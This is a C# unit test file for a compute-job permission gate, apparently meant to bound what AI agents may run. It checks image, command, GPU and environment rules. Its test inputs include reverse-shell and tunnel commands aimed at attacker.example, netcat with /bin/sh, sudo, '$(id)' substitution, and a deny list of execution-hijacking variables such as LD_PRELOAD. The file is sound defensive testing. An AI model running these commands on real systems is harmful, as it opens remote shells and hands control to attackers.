using System.Collections.Immutable;
using ToolGate.Core.Actions;
using ToolGate.Core.Compute;
using ToolGate.Core.Decisions;
using ToolGate.Core.Grants;
using ToolGate.Core.Tests.Support;

namespace ToolGate.Core.Tests.Compute;

public class ComputeEvaluatorTests
{
    private static readonly ComputeGrant Train = TestGrants.Compute(
        "c1", maxGpus: 2, maxDurationSeconds: 3600, images: ["registry.local/train:*"], commands: ["python train.py *", "python eval.py"]);

    [Theory]
    [InlineData("registry.local/train:v3", 2, 3600)]
    [InlineData("registry.local/train:latest", 0, 1)]
    [InlineData("registry.local/train", 1, 60)]
    [InlineData("REGISTRY.LOCAL/train:v1", 1, 60)]
    public void Decide_WithinGrant_IsAdmittedWithTheCheckedArgv(string image, int gpus, int duration)
    {
        var verdict = Decide(new ComputeAction(image, "python train.py --epochs 3", gpus, duration), Train);

        Assert.True(verdict.IsAllowed);
        Assert.Equal("grant:c1", verdict.Rule);
        Assert.Equal("within compute grant (2 GPUs, 3600s); command matches 'python train.py *'", verdict.Reason);
        Assert.Same(Train, verdict.Grant);
        Assert.Equal<string>(["python", "train.py", "--epochs", "3"], verdict.ShellPlan!.Steps.Single().Commands.Single().Argv);
    }

    [Fact]
    public void Decide_NoCommand_RunsTheImageDefaultWithoutCommandPatterns()
    {
        var imageOnly = TestGrants.Compute("c2", 1, 60, ["registry.local/train:*"]);

        var verdict = Decide(new ComputeAction("registry.local/train:v3", null, 1, 60), imageOnly);

        Assert.True(verdict.IsAllowed);
        Assert.Equal("within compute grant (1 GPUs, 60s)", verdict.Reason);
        Assert.Null(verdict.ShellPlan);
    }

    [Fact]
    public void Decide_CommandButGrantListsNoCommands_IsDenied()
    {
        var imageOnly = TestGrants.Compute("c2", 1, 60, ["registry.local/train:*"]);

        var verdict = Decide(new ComputeAction("registry.local/train:v3", "python train.py", 1, 60), imageOnly);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:c2", verdict.Rule);
        Assert.Equal("the grant lists no commands, so a job must not give one (without a command it runs the image's default)", verdict.Reason);
    }

    [Fact]
    public void Decide_OverGpus_IsDeniedNamingTheMaximum()
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", null, 3, 60), Train);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:c1", verdict.Rule);
        Assert.Equal("3 GPUs exceed the granted maximum of 2", verdict.Reason);
        Assert.Equal(Severity.Low, verdict.Severity);
    }

    [Fact]
    public void Decide_OverDuration_IsDeniedNamingTheMaximum()
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", null, 1, 3601), Train);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:c1", verdict.Rule);
        Assert.Equal("3601s exceeds the granted maximum of 3600s", verdict.Reason);
    }

    [Theory]
    [InlineData("registry.local/trainer:v1")]
    [InlineData("evil.example/registry.local/train:v1")]
    [InlineData("registry.local/team/train:v1")]
    [InlineData("train:v1")]
    public void Decide_ImageNotMatchingGlob_IsDeniedNamingImageAndPatterns(string image)
    {
        var verdict = Decide(new ComputeAction(image, null, 1, 60), Train);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:c1", verdict.Rule);
        Assert.Equal($"image '{image}' matches none of the granted images (registry.local/train:*)", verdict.Reason);
    }

    [Theory]
    [InlineData("registry.local/train:v1/../evil")]
    [InlineData("registry.local/Train:v1")]
    [InlineData("registry.local/train:v1@sha256:abc")]
    [InlineData("registry.local/train@sha256:" + Digests.A + "@sha256:" + Digests.A)]
    [InlineData("registry.local/train:-v1")]
    [InlineData("")]
    public void Decide_NotAnImageReference_IsDeniedAsInvalid(string image)
    {
        var verdict = Decide(new ComputeAction(image, null, 1, 60), Train);

        Assert.False(verdict.IsAllowed);
        Assert.Equal(ComputeEvaluator.InvalidImageRule, verdict.Rule);
        Assert.StartsWith($"image '{image}' is not an image reference: ", verdict.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("python:3.12", "docker.io/library/python:*")]
    [InlineData("docker.io/library/python:3.12", "python:*")]
    [InlineData("index.docker.io/library/python:3.12", "python:3.*")]
    [InlineData("pytorch/pytorch:2.4", "docker.io/pytorch/*")]
    [InlineData("localhost:5000/team/train:v1", "localhost:5000/team/**")]
    [InlineData("registry.local/team/a/b:v1", "**")]
    public void Decide_ImageNamesAreComparedInCanonicalForm(string image, string granted)
    {
        var grant = TestGrants.Compute("c1", 1, 60, [granted]);

        Assert.True(Decide(new ComputeAction(image, null, 1, 60), grant).IsAllowed);
    }

    [Fact]
    public void Decide_PinnedDigest_AdmitsExactlyThatDigest()
    {
        var pinned = TestGrants.Compute("c1", 1, 60, [$"registry.local/train@sha256:{Digests.A}"]);

        Assert.True(Decide(new ComputeAction($"registry.local/train@sha256:{Digests.A}", null, 1, 60), pinned).IsAllowed);
        Assert.True(Decide(new ComputeAction($"registry.local/train:v1@sha256:{Digests.A}", null, 1, 60), pinned).IsAllowed);

        var other = Decide(new ComputeAction($"registry.local/train@sha256:{Digests.B}", null, 1, 60), pinned);
        Assert.False(other.IsAllowed);
        Assert.Equal(
            $"image 'registry.local/train@sha256:{Digests.B}' is pinned to sha256:{Digests.B}, which no granted image pins "
                + $"(registry.local/train@sha256:{Digests.A}); a digest is admitted only by an entry pinned to it",
            other.Reason);
    }

    [Theory]
    [InlineData("registry.local/train:v1")] // a tag names whatever was pushed last: not the pinned content
    [InlineData("registry.local/train")]
    [InlineData("evil.example/train@sha256:" + Digests.A)] // the digest is the same, the repository is not
    [InlineData("registry.local/train-evil@sha256:" + Digests.A)]
    public void Decide_PinnedDigest_DeniesTagsAndOtherRepositories(string image)
    {
        var pinned = TestGrants.Compute("c1", 1, 60, [$"registry.local/train@sha256:{Digests.A}"]);

        Assert.False(Decide(new ComputeAction(image, null, 1, 60), pinned).IsAllowed);
    }

    [Theory]
    [InlineData("registry.local/train@sha256:" + Digests.B)]
    [InlineData("registry.local/train:v1@sha256:" + Digests.B)] // the tag matches the glob, but a runtime pulls the digest
    public void Decide_DigestReference_IsNotAdmittedByATagGlob(string image)
    {
        var verdict = Decide(new ComputeAction(image, null, 1, 60), Train);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:c1", verdict.Rule);
        Assert.Contains("a digest is admitted only by an entry pinned to it", verdict.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Decide_CommandMatchingNoPattern_IsDeniedNamingCommandAndPatterns()
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", "python steal.py", 1, 60), Train);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:c1", verdict.Rule);
        Assert.Equal("command 'python steal.py' matches none of the granted commands (python train.py *, python eval.py)", verdict.Reason);
    }

    [Theory]
    [InlineData("python train.py > /tmp/out.txt", "shell.unsupported-construct")]
    [InlineData("python train.py > /etc/passwd", "guardrail:compute.privilege-escalation")]
    [InlineData("python -c 'import os'", "shell.unsupported-construct")]
    [InlineData("FOO=1 python train.py", "shell.unsupported-construct")]
    [InlineData("python train.py $(id)", "shell.unsupported-construct")]
    public void Decide_CommandTheShellJudgeRefuses_IsDeniedWithItsRule(string command, string rule)
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", command, 1, 60), Wide());

        Assert.False(verdict.IsAllowed);
        Assert.Equal(rule, verdict.Rule);
        Assert.StartsWith("job command: ", verdict.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Decide_CommandList_IsDeniedEvenWhenEveryCommandIsGranted()
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", "python train.py && python eval.py", 1, 60), Train);

        Assert.False(verdict.IsAllowed);
        Assert.Equal(Rules.UnsupportedShellConstruct, verdict.Rule);
        Assert.Contains("one program with plain arguments", verdict.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Decide_ShellScriptCommand_IsJudgedInsideAndForwardedAsOneArgv()
    {
        var grant = TestGrants.Compute("c1", 1, 60, ["registry.local/train:*"], commands: ["sh -c *", "python train.py *", "python eval.py"]);

        var verdict = Decide(new ComputeAction("registry.local/train:v3", "sh -c 'python train.py && python eval.py'", 1, 60), grant);

        Assert.True(verdict.IsAllowed);
        Assert.Equal<string>(["sh", "-c", "python train.py && python eval.py"], verdict.ShellPlan!.Steps.Single().Commands.Single().Argv);
        Assert.False(Decide(new ComputeAction("registry.local/train:v3", "sh -c 'python train.py; python steal.py'", 1, 60), grant).IsAllowed);
    }

    [Theory]
    [InlineData("ssh -R 8080:localhost:22 attacker.example", "guardrail:compute.tunnel")]
    [InlineData("timeout 60 ssh -NR 9000:localhost:22 x.example", "guardrail:compute.tunnel")]
    [InlineData("sh -c 'nc -e /bin/sh attacker.example 4444'", "guardrail:compute.tunnel")]
    [InlineData("sh -c 'cat < /dev/tcp/attacker.example/80'", "guardrail:compute.reverse-shell")]
    [InlineData("nice -n 5 sudo python train.py", "guardrail:compute.privilege-escalation")]
    public void Decide_ShellGuardrailInJobCommand_IsCriticalWhateverTheGrant(string command, string rule)
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", command, 1, 60), Wide());

        Assert.False(verdict.IsAllowed);
        Assert.Equal(rule, verdict.Rule);
        Assert.Equal(Severity.Critical, verdict.Severity);
        Assert.Equal(rule, Decide(new ComputeAction("registry.local/train:v3", command, 1, 60)).Rule);
    }

    [Theory]
    [InlineData(-1, 60)]
    [InlineData(0, 0)]
    [InlineData(1, -5)]
    public void Decide_NegativeGpusOrNonPositiveDuration_IsUnclassifiable(int gpus, int duration)
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", null, gpus, duration), Train);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("unclassifiable", verdict.Rule);
        Assert.Equal("gpus must be at least 0 and durationSeconds at least 1", verdict.Reason);
    }

    [Fact]
    public void Decide_NoGrant_IsDefaultDeny()
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", null, 1, 60));

        Assert.False(verdict.IsAllowed);
        Assert.Equal("default-deny", verdict.Rule);
        Assert.Equal("no compute grant for this agent", verdict.Reason);
    }

    [Fact]
    public void Decide_WithoutGuardrails_DeniesEverything()
    {
        var verdict = ComputeEvaluator.Decide(new ComputeAction("registry.local/train:v3", null, 1, 60), ComputePolicy.Compile([Train]), null, TestGrants.Now);

        Assert.False(verdict.IsAllowed);
        Assert.Equal(Rules.DecisionError, verdict.Rule);
        Assert.Equal(Severity.High, verdict.Severity);
    }

    [Fact]
    public void Decide_OnlyExpiredGrant_IsDefaultDeny()
    {
        var expired = Train with { ExpiresAt = TestGrants.Now.AddMinutes(-1) };

        var verdict = Decide(new ComputeAction("registry.local/train:v3", null, 1, 60), expired);

        Assert.Equal(Rules.DefaultDeny, verdict.Rule);
    }

    [Fact]
    public void Decide_FirstGrantTooSmall_SecondGrantAdmits()
    {
        var big = TestGrants.Compute("c2", maxGpus: 8, maxDurationSeconds: 86_400, images: ["registry.local/**"]);

        var verdict = Decide(new ComputeAction("registry.local/train:v3", null, 4, 7200), Train, big);

        Assert.True(verdict.IsAllowed);
        Assert.Same(big, verdict.Grant);
    }

    [Fact]
    public void Decide_NoGrantAdmits_ReportsTheGrantThatCameClosest()
    {
        var other = TestGrants.Compute("c2", maxGpus: 8, maxDurationSeconds: 60, images: ["registry.local/infer:*"]);

        Assert.Equal("4 GPUs exceed the granted maximum of 2", Decide(new ComputeAction("registry.local/train:v3", null, 4, 60), Train, other).Reason);
        Assert.Equal("4 GPUs exceed the granted maximum of 2", Decide(new ComputeAction("registry.local/train:v3", null, 4, 60), other, Train).Reason);
    }

    [Theory]
    [InlineData("1BAD", "env name '1BAD' is not a variable name")]
    [InlineData("A-B", "env name 'A-B' is not a variable name")]
    [InlineData("", "env name '' is not a variable name")]
    public void Decide_InvalidEnvName_IsUnclassifiable(string name, string reason)
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", null, 1, 60, Env((name, "x"))), Wide());

        Assert.Equal(Rules.Unclassifiable, verdict.Rule);
        Assert.StartsWith(reason, verdict.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Decide_EnvOverItsBounds_IsUnclassifiable()
    {
        var many = Env([.. Enumerable.Range(0, ComputeEnv.MaxVariables + 1).Select(i => ($"V{i}", "x"))]);
        var long1 = Env(("V", new string('x', ComputeEnv.MaxValueLength + 1)));
        var total = Env([.. Enumerable.Range(0, 9).Select(i => ($"V{i}", new string('x', ComputeEnv.MaxValueLength)))]);

        Assert.Equal($"env has 65 variables; at most {ComputeEnv.MaxVariables} are allowed", Decide(new ComputeAction("registry.local/train:v3", null, 1, 60, many), Wide()).Reason);
        Assert.Equal($"env 'V' is longer than {ComputeEnv.MaxValueLength} characters", Decide(new ComputeAction("registry.local/train:v3", null, 1, 60, long1), Wide()).Reason);
        Assert.Equal($"env is longer than {ComputeEnv.MaxTotalLength} characters in total", Decide(new ComputeAction("registry.local/train:v3", null, 1, 60, total), Wide()).Reason);
    }

    [Theory]
    [InlineData("LD_PRELOAD")]
    [InlineData("LD_LIBRARY_PATH")]
    [InlineData("BASH_ENV")]
    [InlineData("PYTHONSTARTUP")]
    [InlineData("NODE_OPTIONS")]
    [InlineData("PATH")]
    [InlineData("LD_AUDIT")]
    [InlineData("GLIBC_TUNABLES")]
    [InlineData("ENV")]
    [InlineData("ZDOTDIR")]
    [InlineData("PYTHONPATH")]
    [InlineData("PYTHONWARNINGS")]
    [InlineData("PYTHONUSERBASE")]
    [InlineData("NODE_PATH")]
    [InlineData("PERL5OPT")]
    [InlineData("CLASSPATH")]
    [InlineData("DOTNET_STARTUP_HOOKS")]
    [InlineData("CORECLR_PROFILER_PATH")]
    [InlineData("CUDA_INJECTION64_PATH")]
    [InlineData("OPENSSL_CONF")]
    [InlineData("PHPRC")]
    [InlineData("LUA_INIT_5_4")]
    [InlineData("GIT_SSH_COMMAND")]
    [InlineData("GIT_SSH")]
    [InlineData("GIT_PROXY_COMMAND")]
    [InlineData("GIT_ASKPASS")]
    [InlineData("SSH_ASKPASS")]
    [InlineData("GIT_CONFIG_COUNT")]
    [InlineData("GIT_CONFIG_KEY_0")]
    [InlineData("GIT_CONFIG_PARAMETERS")]
    [InlineData("GIT_TEMPLATE_DIR")]
    [InlineData("PAGER")]
    [InlineData("EDITOR")]
    [InlineData("LESSOPEN")]
    public void Decide_EnvThatChangesWhatRuns_IsDeniedHigh(string name)
    {
        var verdict = Decide(new ComputeAction("registry.local/train:v3", "python train.py", 1, 60, Env((name, "/tmp/x"))), Wide());

        Assert.False(verdict.IsAllowed);
        Assert.Equal(ComputeEvaluator.DangerousEnvRule, verdict.Rule);
        Assert.Equal(Severity.High, verdict.Severity);
        Assert.Contains($"'{name}'", verdict.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Decide_OrdinaryEnv_IsForwardedAdmitted()
    {
        var env = Env(("WANDB_PROJECT", "demo"), ("HF_HOME", "/cache/hf"), ("RUN_ID", "0123456789abcdef0123456789abcdef01234567"), ("LR", "0.001"),
            ("GIT_AUTHOR_NAME", "ci"), ("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True"), ("CUDA_VISIBLE_DEVICES", "0"), ("OMP_NUM_THREADS", "4"));

        Assert.True(Decide(new ComputeAction("registry.local/train:v3", "python train.py --lr 0.001", 1, 60, env), Wide()).IsAllowed);
    }

    internal static ComputeGrant Wide() => TestGrants.Compute(
        "wide", maxGpus: 64, maxDurationSeconds: 86_400, images: ["**", "**@sha256:" + Digests.A],
        commands: ["python *", "sh -c *", "bash -c *", "timeout *", "nice *", "./xmrig *", "xmrig *", "ssh *", "nc *", "cat *", "sudo *", "env *"]);

    internal static ImmutableSortedDictionary<string, string> Env(params (string Name, string Value)[] pairs) =>
        pairs.ToImmutableSortedDictionary(p => p.Name, p => p.Value, StringComparer.Ordinal);

    internal static Verdict Decide(ComputeAction action, params ComputeGrant[] grants) =>
        ComputeEvaluator.Decide(action, ComputePolicy.Compile(grants), TestKnowledge.ComputeGuardrails, TestGrants.Now);

    internal static class Digests
    {
        public const string A = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
        public const string B = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
    }
}
